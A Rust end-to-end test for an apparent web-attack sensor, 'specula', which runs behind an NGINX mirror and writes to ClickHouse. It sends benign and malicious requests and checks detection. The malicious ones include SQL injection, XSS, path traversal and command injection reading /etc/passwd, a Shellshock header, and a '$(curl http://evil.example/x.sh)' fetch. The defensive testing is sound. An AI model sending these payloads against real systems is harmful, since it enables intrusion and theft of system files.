//! The issue's check with real components: a client, a real NGINX mirroring
//! every request (`mirror` + `mirror_request_body`) to the sensor host, and
//! `specula live` on the sensor host writing to a real ClickHouse.
//!
//! ```text
//!  ns CLIENT ──veth── ns NGINX ──veth── root namespace (sensor host)
//!   curl            nginx :80 → app      specula live -i <root veth>, mirror target :8445
//!                    └ mirror /mirror ─────► SENSOR_ADDR:8445
//! ```
//!
//! The sensor runs in the root namespace so it reaches ClickHouse on
//! 127.0.0.1 (`SPECULA_TEST_CLICKHOUSE_URL`; without it the test fails). Needs
//! root, `ip`, `nginx`, `curl` (scripts/deps.sh); a missing one fails the test.

mod common;

use std::net::{Ipv4Addr, SocketAddr};
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use common::netns::{sh, ChildGuard, Netns, Sensor, Side, Veth};
use common::*;
use serde_json::Value;

const MIRROR_PORT: u16 = 8445;

fn clickhouse_url() -> String {
    std::env::var("SPECULA_TEST_CLICKHOUSE_URL").unwrap_or_else(|_| {
        panic!(
            "SPECULA_TEST_CLICKHOUSE_URL is not set: start a server with \
             `scripts/clickhouse.sh start` and export its URL"
        )
    })
}

/// One query through ClickHouse's HTTP interface (curl: no client crate
/// needed, and the same path an operator would use).
fn clickhouse(sql: &str) -> String {
    sh(Command::new("curl")
        .args([
            "-sS",
            "--fail-with-body",
            "--max-time",
            "30",
            "--data-binary",
            sql,
        ])
        .arg(clickhouse_url()))
}

// ---------------------------------------------------------------------------
// Who answers NGINX's mirror subrequests.
//
// The sensor itself is the mirror target (`--sink ADDR:PORT`): it accepts
// NGINX's mirror connections and answers 204, and the test checks NGINX's
// logs to prove every mirror subrequest got its answer.
fn mirror_target(addr: SocketAddr) -> Vec<String> {
    vec!["--sink".into(), addr.to_string()]
}

// ---------------------------------------------------------------------------

/// NGINX as a mirroring reverse proxy: the app is a second server block on
/// loopback (`return 200` cannot be the mirrored location itself: `return`
/// runs in the rewrite phase, before `mirror`).
fn nginx_conf(dir: &Path, listen: Ipv4Addr, sensor: SocketAddr) -> String {
    let d = dir.display();
    format!(
        r#"daemon off;
master_process on;
worker_processes 1;
user root;
pid {d}/nginx.pid;
error_log {d}/error.log info;
events {{ worker_connections 256; }}
http {{
    access_log {d}/access.log;
    client_body_temp_path {d}/client_body;
    proxy_temp_path {d}/proxy;
    fastcgi_temp_path {d}/fastcgi;
    uwsgi_temp_path {d}/uwsgi;
    scgi_temp_path {d}/scgi;
    log_format mirror '$request_id $status $upstream_status';

    upstream app {{ server 127.0.0.1:8081; }}
    upstream specula_mirror {{ server {sensor}; keepalive 4; }}

    server {{
        listen 127.0.0.1:8081;
        location / {{ return 200 "app ok\n"; }}
    }}

    server {{
        listen {listen}:80;
        server_name shop.example;
        add_header X-Request-ID $request_id always;

        location = /ready {{ return 204; }}

        location / {{
            mirror /mirror;
            mirror_request_body on;
            proxy_pass http://app;
        }}

        location = /mirror {{
            internal;
            log_subrequest on;
            access_log {d}/mirror.log mirror;
            proxy_pass http://specula_mirror$request_uri;
            proxy_http_version 1.1;
            proxy_set_header Connection "";
            proxy_set_header Host $host;
            proxy_set_header X-Real-IP $remote_addr;
            proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
            proxy_set_header X-SERVER-ADDR $server_addr;
            proxy_set_header X-SERVER-PORT $server_port;
            proxy_set_header X-Request-ID $request_id;
            proxy_pass_request_body on;
        }}
    }}
}}
"#
    )
}

struct Req {
    name: &'static str,
    attack: bool,
    method: &'static str,
    path: &'static str,
    headers: &'static [&'static str],
    body: Option<(&'static str, &'static str)>,
}

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";

const fn get(name: &'static str, attack: bool, path: &'static str) -> Req {
    Req {
        name,
        attack,
        method: "GET",
        path,
        headers: &[],
        body: None,
    }
}

const fn post(
    name: &'static str,
    attack: bool,
    path: &'static str,
    ctype: &'static str,
    body: &'static str,
) -> Req {
    Req {
        name,
        attack,
        method: "POST",
        path,
        headers: &[],
        body: Some((ctype, body)),
    }
}

fn requests() -> Vec<Req> {
    vec![
        // Benign, some merely mentioning attack words.
        get("home", false, "/"),
        get("index", false, "/index.html"),
        get("plan", false, "/search?q=select+a+plan+from+the+list"),
        get("obrien", false, "/contact?name=O%27Brien"),
        get("blog", false, "/blog/drop-shipping-guide"),
        get("static", false, "/static/app.js"),
        get(
            "products",
            false,
            "/products?category=shoes&sort=price_desc",
        ),
        post(
            "contact-form",
            false,
            "/contact",
            FORM,
            "name=Ann&message=Meet+me+at+union+station+parking",
        ),
        post(
            "login-form",
            false,
            "/login",
            FORM,
            "user=alice&password=correct-horse",
        ),
        post(
            "note-json",
            false,
            "/api/notes",
            JSON,
            r#"{"note":"please select the best plan and drop me a line","tags":["sales"]}"#,
        ),
        // Attacks: query, form body, JSON body, headers, cookie.
        get(
            "sqli-query",
            true,
            "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        ),
        get(
            "xss-query",
            true,
            "/comment?text=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        ),
        get("ptrav-query", true, "/download?file=../../../../etc/passwd"),
        get(
            "rce-query",
            true,
            "/ping?host=127.0.0.1%3Bcat%20/etc/passwd",
        ),
        post(
            "sqli-form",
            true,
            "/login",
            FORM,
            "user=admin%27%20OR%20%271%27%3D%271&password=x",
        ),
        post(
            "xss-form",
            true,
            "/comment",
            FORM,
            "body=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        ),
        post(
            "sqli-json",
            true,
            "/api/search",
            JSON,
            r#"{"filter":{"q":"1 UNION SELECT username, password FROM users--"}}"#,
        ),
        post(
            "rce-json",
            true,
            "/api/run",
            JSON,
            r#"{"cmd":"$(curl http://evil.example/x.sh)"}"#,
        ),
        Req {
            headers: &[r#"User-Agent: () { :; }; /bin/bash -c "cat /etc/passwd""#],
            ..get("rce-header", true, "/cgi-bin/status")
        },
        Req {
            headers: &["Cookie: template=../../../../etc/passwd"],
            ..get("ptrav-cookie", true, "/profile")
        },
    ]
}

/// Send one request from the client namespace with curl; the X-Request-ID
/// NGINX generated for it (from the response header).
fn send(client: &Netns, base: &str, r: &Req) -> String {
    let mut cmd = client.command("curl");
    cmd.args([
        "-sS",
        "--path-as-is",
        "--max-time",
        "10",
        "-o",
        "/dev/null",
        "-D",
        "-",
    ])
    .args(["-X", r.method])
    .args(["-A", "Mozilla/5.0 (X11; Linux x86_64) e2e-test"]);
    for h in r.headers {
        cmd.args(["-H", h]);
    }
    if let Some((ctype, body)) = r.body {
        cmd.args(["-H", &format!("Content-Type: {ctype}")])
            .args(["--data-binary", body]);
    }
    cmd.arg(format!("{base}{}", r.path));
    let head = sh(&mut cmd);
    assert!(
        head.lines().next().is_some_and(|l| l.contains(" 200")),
        "{}: {head}",
        r.name
    );
    head.lines()
        .find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.eq_ignore_ascii_case("x-request-id")
                .then(|| v.trim().to_string())
        })
        .unwrap_or_else(|| panic!("{}: no X-Request-ID in {head}", r.name))
}

fn wait_until(limit: Duration, what: &str, mut ok: impl FnMut() -> bool) {
    let started = Instant::now();
    while !ok() {
        assert!(started.elapsed() < limit, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn nginx_mirror_to_live_sensor_to_clickhouse() {
    let db = format!("specula_e2e_nginx_{}", std::process::id());
    clickhouse(&format!("DROP DATABASE IF EXISTS {db}"));

    let client_ns = Netns::new("cli");
    let nginx_ns = Netns::new("ngx");
    // a: client side, b: NGINX's client-facing address.
    let front = Veth::new(Side::In(&client_ns), Side::In(&nginx_ns), true);
    // a: sensor host (root namespace), b: NGINX's side.
    let back = Veth::new(Side::Root, Side::In(&nginx_ns), true);
    let sensor_addr = SocketAddr::from((back.a_addr, MIRROR_PORT));
    let nginx_addr = back.b_addr;
    let client_addr = front.a_addr;

    let sink_args = mirror_target(sensor_addr);

    let metrics_addr = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").expect("free port");
        l.local_addr().expect("addr")
    };
    let mut cmd = specula();
    cmd.args(["live", "-i", &back.a, "--filter"])
        .arg(format!("tcp port {MIRROR_PORT}"))
        .args(["--trusted-proxy", &format!("{nginx_addr}/32")])
        .args(["--clickhouse", &clickhouse_url(), "--database", &db])
        .args(["--metrics", &metrics_addr.to_string()])
        .args(&sink_args);
    let sensor = Sensor::start(cmd, &back.a);

    let dir = tempfile::tempdir().expect("tempdir");
    let conf = dir.path().join("nginx.conf");
    std::fs::write(&conf, nginx_conf(dir.path(), front.b_addr, sensor_addr)).expect("write conf");
    let mut nginx = ChildGuard(
        nginx_ns
            .command("nginx")
            .arg("-e")
            .arg(dir.path().join("error.log"))
            .arg("-p")
            .arg(dir.path())
            .arg("-c")
            .arg(&conf)
            .spawn()
            .expect("start nginx (apt install nginx; see scripts/deps.sh)"),
    );
    let base = format!("http://{}", front.b_addr);
    wait_until(Duration::from_secs(20), "nginx to answer", || {
        if let Ok(Some(s)) = nginx.0.try_wait() {
            panic!(
                "nginx exited ({s}): {}",
                std::fs::read_to_string(dir.path().join("error.log")).unwrap_or_default()
            );
        }
        client_ns
            .command("curl")
            .args(["-sf", "--max-time", "2", "-o", "/dev/null"])
            .arg(format!("{base}/ready"))
            .status()
            .is_ok_and(|s| s.success())
    });

    let reqs = requests();
    let ids: Vec<(String, &Req)> = reqs
        .iter()
        .map(|r| (send(&client_ns, &base, r), r))
        .collect();

    // Every mirror subrequest answered by the mirror target (204), logged by
    // NGINX with the request's id.
    let mirror_log = dir.path().join("mirror.log");
    wait_until(Duration::from_secs(20), "every mirror subrequest", || {
        std::fs::read_to_string(&mirror_log).is_ok_and(|s| s.lines().count() >= reqs.len())
    });
    std::thread::sleep(Duration::from_millis(500));

    // The live endpoint sees the run: every request parsed, every mirror
    // subrequest answered by the sink, capture and ClickHouse healthy.
    let metric = |name: &str| -> u64 {
        let text = http_get(metrics_addr, "/metrics").1;
        text.lines()
            .find_map(|l| l.strip_prefix(name).and_then(|v| v.trim().parse().ok()))
            .unwrap_or_else(|| panic!("{name} not in /metrics:\n{text}"))
    };
    wait_until(
        Duration::from_secs(10),
        "metrics to count every request",
        || metric("specula_http_requests_total ") >= reqs.len() as u64,
    );
    assert!(metric("specula_mirror_requests_answered_total ") >= reqs.len() as u64);
    assert_eq!(
        metric("specula_capture_dropped_packets_total{reason=\"kernel\"} "),
        0
    );
    let (code, body) = http_get(metrics_addr, "/healthz");
    assert_eq!(code, 200, "{body}");
    assert!(body.contains("\"status\":\"ok\""), "{body}");

    let (status, summary) = sensor.stop();
    assert!(status.success(), "specula live exit {status}: {summary}");
    assert!(summary.contains("packets"), "summary on stderr: {summary}");

    let log = std::fs::read_to_string(&mirror_log).expect("mirror log");
    for (id, r) in &ids {
        let line = log
            .lines()
            .find(|l| l.starts_with(id.as_str()))
            .unwrap_or_else(|| panic!("{}: id {id} not in the mirror log:\n{log}", r.name));
        assert!(
            line.ends_with(" 204"),
            "{}: mirror subrequest not answered 204: {line}",
            r.name
        );
    }
    let errors = std::fs::read_to_string(dir.path().join("error.log")).unwrap_or_default();
    let mirror_errors: Vec<&str> = errors
        .lines()
        .filter(|l| l.contains("[error]") || l.contains("[crit]") || l.contains("upstream"))
        .collect();
    assert!(mirror_errors.is_empty(), "nginx errors: {mirror_errors:#?}");

    // What reached ClickHouse.
    let rows: Vec<Value> = parse_jsonl(
        clickhouse(&format!(
            "SELECT request_id, client_ip, src_ip, dst_port, client_ip_from_header, \
             attack_class, rule_id, location, uri FROM {db}.attacks FINAL FORMAT JSONEachRow"
        ))
        .as_bytes(),
    );
    for (id, r) in &ids {
        let mine: Vec<&Value> = rows.iter().filter(|v| s(v, "request_id") == *id).collect();
        if !r.attack {
            assert!(
                mine.is_empty(),
                "benign {} ({}) reported: {mine:#?}",
                r.name,
                r.path
            );
            continue;
        }
        assert!(
            !mine.is_empty(),
            "attack {} ({}) missing in ClickHouse; rows: {rows:#?}\n{summary}",
            r.name,
            r.path
        );
        let class = r.name.split('-').next().unwrap_or_default();
        assert!(
            mine.iter().any(|v| s(v, "attack_class") == class),
            "{}: no {class} hit: {mine:#?}",
            r.name
        );
        for v in &mine {
            assert_eq!(
                s(v, "client_ip"),
                client_addr.to_string(),
                "{}: {v}",
                r.name
            );
            assert_eq!(s(v, "src_ip"), nginx_addr.to_string(), "{}: {v}", r.name);
            assert_eq!(s(v, "dst_port"), MIRROR_PORT.to_string(), "{}: {v}", r.name);
            assert_eq!(s(v, "client_ip_from_header"), "1", "{}: {v}", r.name);
        }
    }
    // Nothing else arrived: every row belongs to one of our attack requests.
    for v in &rows {
        let id = s(v, "request_id");
        assert!(
            ids.iter().any(|(i, r)| *i == id && r.attack),
            "unexpected row: {v}"
        );
    }

    let status = nginx.terminate(Duration::from_secs(10));
    assert!(
        status.success() || status.code().is_none(),
        "nginx: {status}"
    );
    clickhouse(&format!("DROP DATABASE IF EXISTS {db}"));
}
